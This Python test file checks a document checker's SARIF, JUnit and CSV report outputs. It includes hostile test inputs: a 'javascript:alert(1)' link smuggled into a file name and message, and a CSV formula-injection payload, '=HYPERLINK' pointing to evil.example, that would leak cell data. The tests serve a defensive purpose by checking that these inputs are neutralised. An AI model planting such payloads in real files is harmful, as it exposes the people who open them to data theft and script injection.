"""SARIF, JUnit and CSV: what other programs make of them."""

import csv
import io
import json
import re
from collections.abc import Iterable
from dataclasses import replace
from urllib.parse import urlsplit

import pytest
from jsonschema import Draft202012Validator
from lxml import etree

from checker.findings import Review
from checker.reports import FORMATS, Titles, printed
from tests.reports.fake_reviews import hostile, many, one, unreadable

REVIEWS = [*many(30), *hostile(), unreadable()]
TITLES = Titles("创先争优活动")


def text(format: str, reviews: Iterable[Review] = REVIEWS) -> str:
    whole = "".join(printed(iter(reviews), format, titles=TITLES, version="0.1.0"))
    whole.encode("utf-8")
    return whole


# --- SARIF -------------------------------------------------------------------------------------------

MESSAGE = {
    "type": "object",
    "required": ["text"],
    "additionalProperties": False,
    "properties": {"text": {"type": "string", "minLength": 1}},
}
ARTIFACT = {
    "type": "object",
    "required": ["uri", "uriBaseId"],
    "additionalProperties": False,
    "properties": {
        # A relative reference: percent-encoded, no scheme, no climbing out.
        "uri": {"type": "string", "pattern": r"^(?!/)(?!.*(^|/)\.\.(/|$))([A-Za-z0-9._~/-]|%[0-9A-F]{2})+$"},
        "uriBaseId": {"const": "SUBMISSIONS"},
    },
}
REGION = {
    "type": "object",
    "required": ["startLine", "startColumn", "endColumn"],
    "additionalProperties": False,
    "properties": {
        "startLine": {"type": "integer", "minimum": 1},
        "startColumn": {"type": "integer", "minimum": 1},
        "endColumn": {"type": "integer", "minimum": 1},
        "snippet": MESSAGE,
    },
}
LOCATIONS = {
    "type": "array",
    "items": {
        "type": "object",
        "required": ["physicalLocation"],
        "additionalProperties": False,
        "properties": {
            "physicalLocation": {
                "type": "object",
                "required": ["artifactLocation"],
                "additionalProperties": False,
                "properties": {"artifactLocation": ARTIFACT, "region": REGION},
            },
            "logicalLocations": {
                "type": "array",
                "items": {
                    "type": "object",
                    "additionalProperties": False,
                    "properties": {"name": {"type": "string"}, "kind": {"type": "string"}},
                },
            },
        },
    },
}
# The part of the SARIF 2.1.0 schema that we use, by its own names and required fields, and nothing beside it.
SARIF = {
    "type": "object",
    "required": ["version", "runs", "$schema"],
    "additionalProperties": False,
    "properties": {
        "$schema": {"type": "string", "format": "uri"},
        "version": {"const": "2.1.0"},
        "runs": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["tool", "results"],
                "additionalProperties": False,
                "properties": {
                    "columnKind": {"enum": ["utf16CodeUnits", "unicodeCodePoints"]},
                    "originalUriBaseIds": {"type": "object"},
                    "tool": {
                        "type": "object",
                        "required": ["driver"],
                        "additionalProperties": False,
                        "properties": {
                            "driver": {
                                "type": "object",
                                "required": ["name"],
                                "additionalProperties": False,
                                "properties": {
                                    "name": {"type": "string"},
                                    "version": {"type": "string"},
                                    "rules": {
                                        "type": "array",
                                        "uniqueItems": True,
                                        "items": {
                                            "type": "object",
                                            "required": ["id"],
                                            "additionalProperties": False,
                                            "properties": {
                                                "id": {"type": "string"},
                                                "shortDescription": MESSAGE,
                                                "properties": {"type": "object"},
                                            },
                                        },
                                    },
                                },
                            }
                        },
                    },
                    "invocations": {
                        "type": "array",
                        "items": {
                            "type": "object",
                            "required": ["executionSuccessful"],
                            "additionalProperties": False,
                            "properties": {
                                "executionSuccessful": {"type": "boolean"},
                                "toolExecutionNotifications": {
                                    "type": "array",
                                    "items": {
                                        "type": "object",
                                        "required": ["message"],
                                        "additionalProperties": False,
                                        "properties": {
                                            "message": MESSAGE,
                                            "level": {"enum": ["none", "note", "warning", "error"]},
                                            "locations": LOCATIONS,
                                        },
                                    },
                                },
                            },
                        },
                    },
                    "results": {
                        "type": "array",
                        "items": {
                            "type": "object",
                            "required": ["message"],
                            "additionalProperties": False,
                            "properties": {
                                "ruleId": {"type": "string"},
                                "ruleIndex": {"type": "integer", "minimum": 0},
                                "level": {"enum": ["none", "note", "warning", "error"]},
                                "message": MESSAGE,
                                "locations": LOCATIONS,
                            },
                        },
                    },
                },
            },
        },
    },
}


def test_sarif_is_of_the_schema_and_holds_every_finding() -> None:
    Draft202012Validator.check_schema(SARIF)
    log = json.loads(text("sarif"))
    Draft202012Validator(SARIF).validate(log)
    (run,) = log["runs"]
    findings = [f for review in REVIEWS for f in review.findings]
    assert [r["ruleId"] for r in run["results"]] == [f.rule for f in findings]
    rules = run["tool"]["driver"]["rules"]
    assert all(rules[r["ruleIndex"]]["id"] == r["ruleId"] for r in run["results"])


def test_sarif_says_where_in_lines_and_columns_from_one() -> None:
    review = next(r for r in REVIEWS if any(f.rule == "spun.word" for f in r.findings))
    (result,) = [
        r for r in json.loads(text("sarif", [review]))["runs"][0]["results"] if r["ruleId"] == "spun.word"
    ]
    region = result["locations"][0]["physicalLocation"]["region"]
    assert region == {"startLine": 2, "startColumn": 7, "endColumn": 9, "snippet": {"text": "效劳"}}
    assert result["message"]["text"].endswith("建议改为：服务")


def test_sarif_has_no_link_of_a_documents_making() -> None:
    bad = replace(unreadable(), file="javascript:alert(1)/../a.docx", reason="[点我](javascript:alert(1))")
    log = json.loads(text("sarif", [*hostile(), bad]))
    (run,) = log["runs"]
    told = [r["message"]["text"] for r in run["results"]]
    told += [n["message"]["text"] for n in run["invocations"][0]["toolExecutionNotifications"]]
    assert any("点我" in words for words in told)
    assert not [words for words in told if "](" in words]
    places = re.findall(r'"uri": ?"([^"]*)"', json.dumps(log))
    assert places and not [uri for uri in places if urlsplit(uri).scheme]


def test_sarif_tells_of_unreadable_files() -> None:
    (told,) = json.loads(text("sarif", [one(0), unreadable()]))["runs"][0]["invocations"]
    assert told["executionSuccessful"] is False
    (notice,) = told["toolExecutionNotifications"]
    assert notice["message"]["text"] == unreadable().reason
    good = json.loads(text("sarif", [one(0)]))["runs"][0]["invocations"]
    assert good == [{"executionSuccessful": True, "toolExecutionNotifications": []}]


# --- JUnit -------------------------------------------------------------------------------------------

# What Jenkins, GitLab and Ant's own reporter agree on.
JUNIT = """
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:complexType name="trouble"><xs:simpleContent><xs:extension base="xs:string">
    <xs:attribute name="message" type="xs:string"/><xs:attribute name="type" type="xs:string" use="required"/>
  </xs:extension></xs:simpleContent></xs:complexType>
  <xs:attributeGroup name="counts">
    <xs:attribute name="name" type="xs:string" use="required"/>
    <xs:attribute name="tests" type="xs:nonNegativeInteger" use="required"/>
    <xs:attribute name="failures" type="xs:nonNegativeInteger" use="required"/>
    <xs:attribute name="errors" type="xs:nonNegativeInteger" use="required"/>
  </xs:attributeGroup>
  <xs:element name="testsuites"><xs:complexType><xs:sequence>
    <xs:element name="testsuite" minOccurs="0" maxOccurs="unbounded"><xs:complexType><xs:sequence>
      <xs:element name="testcase" minOccurs="0" maxOccurs="unbounded"><xs:complexType><xs:choice minOccurs="0">
        <xs:element name="failure" type="trouble"/><xs:element name="error" type="trouble"/>
      </xs:choice>
      <xs:attribute name="name" type="xs:string" use="required"/>
      <xs:attribute name="classname" type="xs:string" use="required"/>
      <xs:attribute name="file" type="xs:string"/>
      </xs:complexType></xs:element>
    </xs:sequence><xs:attributeGroup ref="counts"/>
    <xs:attribute name="skipped" type="xs:nonNegativeInteger"/></xs:complexType></xs:element>
  </xs:sequence><xs:attributeGroup ref="counts"/></xs:complexType></xs:element>
</xs:schema>
"""


def test_junit_is_of_the_schema_and_counts_right() -> None:
    root = etree.fromstring(text("junit").encode("utf-8"))
    etree.XMLSchema(etree.fromstring(JUNIT)).assertValid(root)
    cases = root.findall(".//testcase")
    assert len(cases) == len(REVIEWS) == int(root.get("tests"))
    assert (
        len(root.findall(".//failure"))
        == int(root.get("failures"))
        == sum(r.status == "revise" for r in REVIEWS)
    )
    assert len(root.findall(".//error")) == int(root.get("errors"))


def test_junit_failures_say_what_and_where() -> None:
    review = next(r for r in REVIEWS if any(f.rule == "spun.word" for f in r.findings))
    failure = etree.fromstring(text("junit", [review]).encode()).find(".//failure")
    assert "[建议改] “效劳”应为“服务”，疑似机器换词。（正文第 2 段：“效劳”）建议改为：服务" in failure.text
    error = etree.fromstring(text("junit", [unreadable()]).encode()).find(".//error")
    assert error.get("message") == unreadable().reason


# --- CSV ---------------------------------------------------------------------------------------------


def test_csv_has_a_row_a_document_and_opens_in_excel_as_utf8() -> None:
    whole = text("csv")
    assert whole.startswith("\ufeff")
    head, *rows = csv.reader(io.StringIO(whole.removeprefix("\ufeff"), newline=""))
    assert len(rows) == len(REVIEWS)
    row = dict(zip(head, rows[3], strict=True))
    names = {"covered": "已写实", "named": "只提到", "missing": "未涉及"}
    assert [row[e.title] for e in REVIEWS[3].elements] == [names[e.level] for e in REVIEWS[3].elements]
    assert (row["文种"], row["承诺书·签名"]) == ("实施方案", "—")


def test_csv_runs_no_formula_and_forges_no_row() -> None:
    rows = list(csv.reader(io.StringIO(text("csv", hostile()), newline="")))
    assert len(rows) == len(hostile()) + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n"))]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")' in cells
    assert not any("\n" in cell or "\x1b" in cell for cell in cells)


# --- all ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("format", FORMATS)
def test_every_format_takes_a_stream_an_empty_run_and_is_deterministic(format: str) -> None:
    assert text(format) == text(format)
    assert text(format, []) or format == "jsonl"


def test_an_unknown_format_is_refused() -> None:
    with pytest.raises(ValueError, match="odd"):
        text("odd")
